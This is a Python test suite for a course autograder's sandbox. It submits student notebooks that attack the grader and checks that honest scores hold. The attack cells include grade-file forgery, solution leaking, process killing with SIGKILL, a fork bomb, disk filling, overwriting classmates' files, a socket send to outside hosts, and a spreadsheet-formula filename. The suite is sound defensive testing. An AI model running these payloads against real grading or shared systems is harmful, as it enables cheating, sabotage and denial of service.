"""The grader's trust boundary (issue 16): students who attack the grader, graded with their classmates.

Exercise 7 (LSTM) as in the issue: the solution scores 9/9 (q1 4 points, q2 5); the wrong q1 below
(zeros of the right shape) scores 1/4, so 6/9. Each attacker hands in that wrong q1 (or the
solution) plus an attack; the whole class is graded in one batch through the command line,
without --exercise (each notebook says EXERCISE = "ex07"), and every test checks the attacker's
exact score and that the honest classmates alice (9/9) and bob (6/9) keep theirs. The attacks that
need the grader itself killed, oversized files, no sandbox, or Gradescope have runs of their own.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import signal
import socket
import subprocess
import sys
import threading
import time
import zipfile
from pathlib import Path

import pytest

import rnncourse
from sandboxed import processes_named, wait_until_gone

ROOT = Path(__file__).resolve().parents[1]
MASTER = ROOT / "exercises" / "solutions" / "ex07_lstm.ipynb"
PACKAGE = Path(rnncourse.__file__).resolve().parent
TESTING = PACKAGE / "exercises" / "_testing.py"
EX07 = PACKAGE / "exercises" / "ex07.py"

pytestmark = pytest.mark.skipif(subprocess.run(["sh", "-c", "command -v bwrap"], capture_output=True).returncode,
                                reason="bubblewrap is not installed (make test installs it: scripts/ensure_sandbox.sh)")


def master_cells() -> tuple[str, str, str]:
    """(setup, q1 answer, q2 answer) of the ex07 master notebook."""
    nb = json.loads(MASTER.read_text(encoding="utf-8"))
    code = [c for c in nb["cells"] if c["cell_type"] == "code"]
    tagged = {tag: ["".join(c["source"]) for c in code if tag in c.get("metadata", {}).get("tags", [])]
              for tag in ("setup", "answer")}
    return tagged["setup"][0], tagged["answer"][0], tagged["answer"][1]


SETUP, SOLUTION_Q1, SOLUTION_Q2 = master_cells()
WRONG_Q1 = """def lstm_cell_forward(x, h_prev, c_prev, W_ih, W_hh, b_ih, b_hh):
    return np.zeros_like(h_prev), np.zeros_like(c_prev)
"""


def write_notebook(path: Path, setup: str = SETUP, q1: str = SOLUTION_Q1, q2: str = SOLUTION_Q2) -> Path:
    """The ex07 master notebook with its setup and answer cells replaced."""
    nb = json.loads(MASTER.read_text(encoding="utf-8"))
    sources = iter([q1, q2])
    for cell in nb["cells"]:
        tags = cell.get("metadata", {}).get("tags", [])
        if "setup" in tags:
            cell["source"] = setup
        elif "answer" in tags:
            cell["source"] = next(sources)
    path.write_text(json.dumps(nb), encoding="utf-8")
    return path


def run_cli(*args, timeout=300, env=None, **options):
    return subprocess.run([sys.executable, "-m", "rnncourse.grade", *map(str, args)], capture_output=True,
                          text=True, timeout=timeout, env=dict(os.environ, **(env or {})), **options)


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


# --- the attacks (answer cells), and the exact score each must get -----------------------------------

MARK = f"setsid{os.getpid() % 10**6}"         # the name the double-forked process gives itself

ATTACKS = {
    # name: (setup, q1, q2, expected (q1, q2, total))
    "allclose_in_answer": (SETUP, "np.allclose = lambda *a, **k: True\nnp.array_equal = lambda *a, **k: True\n"
                           "np.isfinite = lambda a: np.ones(np.shape(a), bool)\n" + WRONG_Q1, SOLUTION_Q2, (1, 5, 6)),
    "allclose_in_setup": (SETUP + "\nnp.allclose = lambda *a, **k: True\nnp.all = lambda *a, **k: True\n",
                          WRONG_Q1, SOLUTION_Q2, (1, 5, 6)),
    "forged_results": (SETUP, """import json, os
for fd in map(int, os.listdir("/proc/self/fd")):
    for line in ({"kind": "test", "name": "x", "score": 1e9}, {"kind": "done"}, {"op": "result", "values": {}}):
        try:
            os.write(fd, (json.dumps(line) + "\\n").encode())
        except OSError:
            pass
""" + WRONG_Q1, SOLUTION_Q2, (1, 5, 6)),
    # visibly using torch or the reference scores 0, as answers must be NumPy only...
    "reference_imported": (SETUP, f"""def lstm_cell_forward(x, h_prev, c_prev, W_ih, W_hh, b_ih, b_hh):
    import importlib.util
    spec = importlib.util.spec_from_file_location("ref", {str(EX07)!r})
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module._lstm_step(x, h_prev, c_prev, W_ih, W_hh, b_ih, b_hh)[:2]
""", SOLUTION_Q2, (0, 5, 5)),
    "torch_imported": (SETUP, """def lstm_cell_forward(x, h_prev, c_prev, W_ih, W_hh, b_ih, b_hh):
    torch = __import__("torch")
    return torch.zeros(1), torch.zeros(1)
""", SOLUTION_Q2, (0, 5, 5)),
    # ...and hiding it from the grader's reading finds nothing to use in the sandbox
    "reference_in_memory": (SETUP, f"""def lstm_cell_forward(x, h_prev, c_prev, W_ih, W_hh, b_ih, b_hh):
    import gc, sys
    modules = getattr(sys, "mod" + "ules")
    candidates = [getattr(m, "_lstm_step", None) for m in list(modules.values())]
    candidates += [o for o in gc.get_objects() if getattr(o, "__name__", "") == "_lstm_step"]
    frame = sys._getframe()
    while frame is not None:
        candidates.append(frame.f_globals.get("_lstm_step"))
        frame = frame.f_back
    scope = {{}}
    try:
        exec(open({str(EX07)!r}).read(), scope)
        candidates.append(scope["_lstm_step"])
    except Exception:
        pass
    for reference in candidates:
        if callable(reference):
            h, c, _ = reference(x, h_prev, c_prev, W_ih, W_hh, b_ih, b_hh)
            return h, c
    return np.zeros_like(h_prev), np.zeros_like(c_prev)
""", SOLUTION_Q2, (1, 5, 6)),
    "torch_through_builtins": (SETUP, """def lstm_cell_forward(x, h_prev, c_prev, W_ih, W_hh, b_ih, b_hh):
    import subprocess, sys
    try:
        t = np.__dict__["__" + "builtins__"]["__" + "import__"]("to" + "rch")
        cell = t.nn.LSTMCell(x.shape[1], h_prev.shape[1])
        raise RuntimeError("torch was imported")
    except ImportError:
        pass
    run = subprocess.run([sys.executable, "-c", "import torch, rnncourse.exercises.ex07"], capture_output=True)
    if run.returncode == 0:
        raise RuntimeError("a subprocess imported torch and the reference")
    return np.zeros_like(h_prev), np.zeros_like(c_prev)
""", SOLUTION_Q2, (1, 5, 6)),
    "setsid_double_fork": (SETUP, f"""import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        open("/proc/self/comm", "w").write({MARK!r})
        for _ in range(600):
            for path in JSON_PATHS:
                try:
                    open(path, "w").write('{{"score": 1000}}')
                except OSError:
                    pass
            time.sleep(0.05)
    os._exit(0)
""" + WRONG_Q1, SOLUTION_Q2, (1, 5, 6)),
    "append_to_the_tests": (SETUP, f"""try:
    with open({str(TESTING)!r}, "a") as handle:
        handle.write("\\nexpect_close = lambda *a, **k: None\\n")
except OSError:
    pass
""" + WRONG_Q1, SOLUTION_Q2, (1, 5, 6)),
    "unittest_main": (SETUP.replace('EXERCISE = "ex07"', 'EXERCISE = "unittest.__main__"'), SOLUTION_Q1,
                      SOLUTION_Q2, (0, 0, 0)),
    "fake_fatal_events": (SETUP, SOLUTION_Q1, """import json, os
for fd in map(int, os.listdir("/proc/self/fd")):
    for line in ({"kind": "fatal", "message": "scored 0: the answer uses `import torch`"},
                 {"op": "ready", "refused": ["torch"], "function": "missing"}):
        try:
            os.write(fd, (json.dumps(line) + "\\n").encode())
        except OSError:
            pass
""" + SOLUTION_Q2, (4, 5, 9)),
    "signals_to_everyone": (SETUP, """import os, signal
for sig in (signal.SIGSTOP, signal.SIGKILL):
    try:
        os.kill(-1, sig)
    except OSError:
        pass
for pid in range(1, 5000):
    if pid != os.getpid():
        for sig in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(pid, sig)
            except OSError:
                pass
""" + WRONG_Q1, SOLUTION_Q2, (1, 5, 6)),
    "overwrite_classmates": (SETUP, """import os
for folder in BATCH_FOLDERS:
    try:
        for name in os.listdir(folder):
            open(os.path.join(folder, name), "w").write("{}")
    except OSError:
        pass
""" + WRONG_Q1, SOLUTION_Q2, (1, 5, 6)),
    "nan_everywhere": (SETUP, """def lstm_cell_forward(x, h_prev, c_prev, W_ih, W_hh, b_ih, b_hh):
    return np.full_like(h_prev, np.nan), np.full_like(c_prev, np.inf)
""", SOLUTION_Q2, (1, 5, 6)),
    "leak_the_solution": (SETUP, f"""def lstm_cell_forward(x, h_prev, c_prev, W_ih, W_hh, b_ih, b_hh):
    import gc, inspect, sys
    found = []
    for path in ({str(MASTER)!r}, {str(EX07)!r}):
        try:
            found.append(open(path).read())
        except OSError:
            pass
    frame = sys._getframe().f_back
    while frame is not None:
        try:
            found.append(inspect.getsource(frame))
        except Exception:
            pass
        frame = frame.f_back
    found += [o.__name__ for o in gc.get_objects() if callable(o) and hasattr(o, "__name__")]
    raise RuntimeError(" ".join(found)[-2000:] or "nothing found")
""", SOLUTION_Q2, (0, 5, 5)),
    "scribbles_on_its_inputs": (SETUP, SOLUTION_Q1 + """
_forward = lstm_cell_forward
def lstm_cell_forward(*args):
    h, c = _forward(*args)
    h, c = h.copy(), c.copy()
    for a in args:
        a[...] = 7
    return h, c
""", SOLUTION_Q2 + """
_backward = lstm_cell_backward
def lstm_cell_backward(dh, dc, cache):
    out = [g.copy() for g in _backward(dh, dc, cache)]
    dh[...], dc[...] = 0, 0
    for value in cache.values():
        value[...] = -1
    cache.clear()
    return tuple(out)
""", (4, 5, 9)),
    "fork_bomb": (SETUP, """import os
for _ in range(200):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        while True:
            pass
""" + WRONG_Q1, SOLUTION_Q2, (1, 5, 6)),
    "huge_return_value": (SETUP, """def lstm_cell_forward(x, h_prev, c_prev, W_ih, W_hh, b_ih, b_hh):
    return np.zeros((3, 5, 10**6)), np.zeros_like(c_prev)
""", SOLUTION_Q2, (0, 5, 5)),
    "network": (SETUP, """import socket
for host in ("127.0.0.1", "1.1.1.1"):
    try:
        socket.create_connection((host, PORT), timeout=1).sendall(b"stolen")
    except OSError:
        pass
""" + WRONG_Q1, SOLUTION_Q2, (1, 5, 6)),
    "fill_the_disk": (SETUP, """import os
block = b"x" * 2**20
for folder in ("/tmp", "/", "/dev/shm", os.getcwd()):
    for i in range(200):
        try:
            with open(os.path.join(folder, f"fill{i}"), "wb") as handle:
                for _ in range(64):
                    handle.write(block)
        except OSError:
            break
""" + WRONG_Q1, SOLUTION_Q2, (1, 5, 6)),
}


class Classroom:
    """The batch: alice (solution), bob (wrong q1), the attackers, and files that are not notebooks."""

    def __init__(self, folder: Path, out: Path):
        self.folder, self.out = folder, out
        self.csv, self.json = out / "grades.csv", out / "grades.json"
        self.audit = out / "grades.audit.jsonl"
        self.received = []
        self.listener = socket.socket()
        self.listener.bind(("127.0.0.1", 0))
        self.listener.listen()
        self.port = self.listener.getsockname()[1]
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self):
        while True:
            try:
                connection, _ = self.listener.accept()
                self.received.append(connection.recv(100))
            except OSError:
                return

    def write(self) -> None:
        self.folder.mkdir()
        write_notebook(self.folder / "alice.ipynb")
        write_notebook(self.folder / "bob.ipynb", q1=WRONG_Q1)
        names = {"JSON_PATHS": [str(self.json), str(self.out / "grades.csv")],
                 "BATCH_FOLDERS": [str(self.folder), str(self.out)], "PORT": self.port}
        prelude = "".join(f"{name} = {value!r}\n" for name, value in names.items())
        for name, (setup, q1, q2, _) in ATTACKS.items():
            write_notebook(self.folder / f"{name}.ipynb", setup=prelude + setup, q1=q1, q2=q2)
        write_notebook(self.folder / "UPPER.IPYNB")                      # graded, whatever the case
        write_notebook(self.folder / '=HYPERLINK("evil.example","x").ipynb')
        (self.folder / "folder.ipynb").mkdir()
        (self.folder / "broken.ipynb").symlink_to(self.out / "missing.ipynb")
        (self.folder / "notes.txt").write_text("not a notebook")

    def grade(self) -> None:
        self.before = {p.name: digest(p) for p in self.folder.iterdir() if p.is_file() and not p.is_symlink()}
        self.testing_before = digest(TESTING)
        self.run = run_cli("--batch", self.folder, "--csv", self.csv, "--json", self.json, "--timeout", "10",
                           "--jobs", "2")
        with open(self.csv, newline="", encoding="utf-8") as handle:
            self.rows = {row["student"]: row for row in csv.DictReader(handle)}
        self.json_text = self.json.read_text(encoding="utf-8")


@pytest.fixture(scope="module")
def classroom(tmp_path_factory):
    room = Classroom(tmp_path_factory.mktemp("class") / "submissions", tmp_path_factory.mktemp("grades"))
    room.write()
    room.grade()
    yield room
    room.listener.close()


def score(row) -> tuple:
    return int(float(row["q1"] or 0)), int(float(row["q2"] or 0)), int(float(row["total"]))


def test_the_batch_finished_and_the_honest_classmates_keep_their_grades(classroom):
    assert classroom.run.returncode == 0, classroom.run.stderr[-3000:]
    assert score(classroom.rows["alice"]) == (4, 5, 9)
    assert score(classroom.rows["bob"]) == (1, 5, 6)


@pytest.mark.parametrize("attack", list(ATTACKS))
def test_an_attack_leaves_the_honest_score(classroom, attack):
    assert score(classroom.rows[attack]) == ATTACKS[attack][3], classroom.rows[attack]
    assert score(classroom.rows["alice"]) == (4, 5, 9) and score(classroom.rows["bob"]) == (1, 5, 6)


def test_the_answers_cannot_reach_the_grader_files_or_the_network(classroom):
    # nothing the answers wrote reached the tests, the classmates' notebooks or the network
    assert digest(TESTING) == classroom.testing_before
    assert {p.name: digest(p) for p in classroom.folder.iterdir() if p.name in classroom.before} == classroom.before
    assert classroom.received == []


def test_a_double_forked_process_dies_with_its_sandbox(classroom):
    assert wait_until_gone(MARK) == []              # so nothing can rewrite the results any more
    assert classroom.json.read_text(encoding="utf-8") == classroom.json_text
    assert '"score": 1000' not in classroom.json_text


def test_the_results_are_valid_data_and_say_nothing_of_the_solution(classroom):
    def no_constants(name):
        raise ValueError(f"{name} in the JSON")

    data = json.loads(classroom.json_text, parse_constant=no_constants)   # NaN/Infinity would be invalid
    assert len(data) == len(classroom.rows)
    everything = classroom.json_text + classroom.csv.read_text(encoding="utf-8") + classroom.run.stdout \
        + classroom.audit.read_text(encoding="utf-8")
    for secret in ("BEGIN SOLUTION", "_lstm_step", "dc = dc + dh * o * (1 - tanh_c ** 2)", "def _forward_bias"):
        assert secret not in everything
    leak = next(r for r in data if r["file"].endswith("leak_the_solution.ipynb"))
    assert "raised RuntimeError" in leak["tests"][0]["output"]


def test_using_torch_or_the_reference_is_reported(classroom):
    for attack in ("reference_imported", "torch_imported"):
        assert "NumPy only" in classroom.rows[attack]["problems"]


def test_a_notebook_cannot_name_the_module_the_grader_imports(classroom):
    row = classroom.rows["unittest_main"]
    assert "EXERCISE = 'unittest.__main__'" in row["problems"] and "known exercises: ex02" in row["problems"]
    assert "Ran 0 tests" not in classroom.run.stdout + classroom.run.stderr


def test_every_entry_of_the_batch_gets_a_row_or_a_message(classroom):
    rows = classroom.rows
    assert score(rows["UPPER"]) == (4, 5, 9)
    assert "is a folder" in rows["folder"]["problems"] and score(rows["folder"]) == (0, 0, 0)
    assert "is a symbolic link" in rows["broken"]["problems"] and score(rows["broken"]) == (0, 0, 0)
    assert "notes.txt" in classroom.run.stderr and "not a notebook" in classroom.run.stderr
    # a file name is text in the spreadsheet, never a formula
    formula = next(name for name in rows if "HYPERLINK" in name)
    assert formula.startswith("'=HYPERLINK") and score(rows[formula]) == (4, 5, 9)
    for row in rows.values():
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values() if cell)
    assert len(rows) == len(ATTACKS) + 6
    header = classroom.csv.read_text(encoding="utf-8").splitlines()[0].split(",")
    assert header == ["student", "file", "exercise", "q1", "q2", "total", "max_score", "problems"]


def test_the_audit_log_records_what_was_graded(classroom):
    lines = [json.loads(line) for line in classroom.audit.read_text(encoding="utf-8").splitlines()]
    assert len(lines) == len(classroom.rows)
    by_file = {Path(line["file"]).name: line for line in lines}
    alice = by_file["alice.ipynb"]
    assert alice["notebook_sha256"] == classroom.before["alice.ipynb"]
    assert alice["exercise"] == "ex07" and alice["score"] == 9 and alice["questions"] == {"q1": 4, "q2": 5}
    assert alice["grader_version"] == rnncourse.__version__ and alice["sandbox"] == "bubblewrap"
    assert len({line["tests_sha256"] for line in lines if line["exercise"] == "ex07"}) == 1
    assert len(alice["tests_sha256"]) == len(alice["grader_sha256"]) == 64
    assert by_file["broken.ipynb"]["notebook_sha256"] is None


# --- runs of their own ----------------------------------------------------------------------------

SCRIBBLE = """
def _scribble(values):
    for v in values:
        if isinstance(v, np.ndarray):
            v[...] = 7
        elif isinstance(v, (dict, list, tuple)):
            _scribble(list(v.values()) if isinstance(v, dict) else list(v))
            if not isinstance(v, tuple):
                v.clear()

_original_{name} = {name}

def {name}(*args, **kwargs):
    import copy
    value = copy.deepcopy(_original_{name}(*args, **kwargs))
    _scribble(list(args) + list(kwargs.values()))
    return value
"""
MUST_NOT_CHANGE_INPUTS = {"numerical_gradient", "clip_by_norm"}    # their tests check exactly that


def test_correct_answers_that_then_change_their_inputs_keep_full_marks(tmp_path):
    """Every question (but the two whose task is to leave the inputs alone) of every exercise."""
    from rnncourse import exercises

    folder = tmp_path / "class"
    folder.mkdir()
    scribbled = 0
    for master in sorted((ROOT / "exercises" / "solutions").glob("ex*.ipynb")):
        nb = json.loads(master.read_text(encoding="utf-8"))
        module = exercises.load(master.stem.split("_")[0])
        answers = [c for c in nb["cells"] if "answer" in c.get("metadata", {}).get("tags", [])]
        for cell, question in zip(answers, module.QUESTIONS):
            if question.function not in MUST_NOT_CHANGE_INPUTS:
                cell["source"] = "".join(cell["source"]) + "\n" + SCRIBBLE.format(name=question.function)
                scribbled += 1
        (folder / master.name).write_text(json.dumps(nb), encoding="utf-8")
    every = sum(len(exercises.load(name).QUESTIONS) for name in exercises.EXERCISES)
    assert scribbled == every - len(MUST_NOT_CHANGE_INPUTS) >= 18    # ex02-ex08 and ex10
    run = run_cli("--batch", folder, "--json", tmp_path / "out.json", "-q")
    assert run.returncode == 0, run.stderr
    results = json.loads((tmp_path / "out.json").read_text())
    assert len(results) == len(exercises.EXERCISES)    # one master notebook per exercise
    for result in results:
        assert result["score"] == result["max_score"] > 0, (result["file"], result["tests"])


def test_killing_the_grader_ends_every_sandbox(tmp_path):
    folder, mark = tmp_path / "class", f"orphan{os.getpid() % 10**6}"
    folder.mkdir()
    write_notebook(folder / "mallory.ipynb", q1=f"""import os
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        open("/proc/self/comm", "w").write({mark!r})
        while True:
            pass
    os._exit(0)
while True:
    pass
""")
    grader = subprocess.Popen([sys.executable, "-m", "rnncourse.grade", "--batch", str(folder), "--timeout", "300"],
                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 60                  # a bound on waiting, not a speed goal
    while not processes_named(mark) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert processes_named(mark), "the attack never started"
    grader.send_signal(signal.SIGKILL)
    grader.wait()
    assert wait_until_gone(mark) == []


def test_oversized_notebooks_are_refused_before_they_are_parsed(tmp_path):
    folder = tmp_path / "class"
    folder.mkdir()
    write_notebook(folder / "alice.ipynb")
    big = json.loads(write_notebook(folder / "outputs.ipynb").read_text())
    big["cells"][0]["source"] = "x" * (6 * 2**20)                   # a 6 MB markdown cell
    (folder / "outputs.ipynb").write_text(json.dumps(big))
    code = "\n".join(f"v{i} = {i} * 2 + (3 - {i}) / 7" for i in range(4_000))     # ~110 KB of code in q1
    write_notebook(folder / "code.ipynb", q1=code + "\n" + SOLUTION_Q1)
    run = run_cli("--batch", folder, "--csv", tmp_path / "grades.csv", "--timeout", "10")
    assert run.returncode == 0, run.stderr
    with open(tmp_path / "grades.csv", newline="") as handle:
        rows = {row["student"]: row for row in csv.DictReader(handle)}
    assert score(rows["alice"]) == (4, 5, 9)
    assert score(rows["outputs"]) == (0, 0, 0) and "too large for a notebook" in rows["outputs"]["problems"]
    assert "see --max-size" in rows["outputs"]["problems"]
    assert score(rows["code"]) == (0, 5, 5) and "too long to grade" in rows["code"]["problems"]
    # --max-size raises the limit for notebooks with large outputs
    run = run_cli(folder / "outputs.ipynb", "--max-size", "8", "-q")
    assert run.returncode == 0 and "9/9" in run.stdout


def test_without_a_sandbox_the_grader_refuses_unless_unsafe(tmp_path):
    notebook = write_notebook(tmp_path / "alice.ipynb")
    run = run_cli(notebook, "--csv", tmp_path / "g.csv", env={"RNNCOURSE_BWRAP": str(tmp_path / "no-bwrap")})
    assert run.returncode == 2 and "NOT GRADED" in run.stderr and "--unsafe" in run.stderr
    assert not (tmp_path / "g.csv").exists()
    run = run_cli(notebook, "--csv", tmp_path / "g.csv", "--unsafe", "-q",
                  env={"RNNCOURSE_BWRAP": str(tmp_path / "no-bwrap")})
    assert run.returncode == 0 and "WITHOUT a sandbox" in run.stderr and "alice.ipynb: 9/9" in run.stdout
    assert '"sandbox": "none (--unsafe)"' in (tmp_path / "g.audit.jsonl").read_text()


def test_gradescope_bundle(tmp_path):
    out = tmp_path / "ex07.zip"
    run = run_cli("bundle", "ex07", "--gradescope", out, "--visibility", "after_due_date",
                  "--question-visibility", "q1=visible")
    assert run.returncode == 0, run.stderr
    with zipfile.ZipFile(out) as archive:
        names = set(archive.namelist())
        assert {"setup.sh", "run_autograder", "config.json", "rnncourse/grade/child/main.py",
                "rnncourse/exercises/ex07.py"} <= names
        assert not any(n.endswith(".ipynb") for n in names)               # no solution notebook
        for name in ("setup.sh", "run_autograder"):
            assert archive.getinfo(name).external_attr >> 16 & 0o111       # executable
        run_autograder = archive.read("run_autograder").decode()
        assert "/autograder/results/results.json" in run_autograder
        assert "apt-get install" in archive.read("setup.sh").decode()
        archive.extractall(tmp_path / "source")
    # what run_autograder does, with this machine's Python in place of /autograder/venv
    submission = tmp_path / "submission"
    submission.mkdir()
    write_notebook(submission / "ex07_lstm.ipynb", q1=WRONG_Q1)
    results = tmp_path / "results" / "results.json"
    run = subprocess.run([sys.executable, "-m", "rnncourse.grade.bundle", "run", "--config",
                          tmp_path / "source" / "config.json", submission, results],
                         cwd=tmp_path / "source", capture_output=True, text=True, timeout=300)
    assert run.returncode == 0, run.stderr
    data = json.loads(results.read_text())
    assert data["score"] == 6 and "Graded ex07_lstm.ipynb" in data["output"]
    assert [(t["name"], t["score"], t["max_score"], t["visibility"], t["status"]) for t in data["tests"]] == [
        ("q1 lstm_cell_forward", 1, 4, "visible", "failed"), ("q2 lstm_cell_backward", 5, 5, "after_due_date", "passed")]
    assert json.loads(run.stdout.splitlines()[-1])["notebook_sha256"] == digest(submission / "ex07_lstm.ipynb")
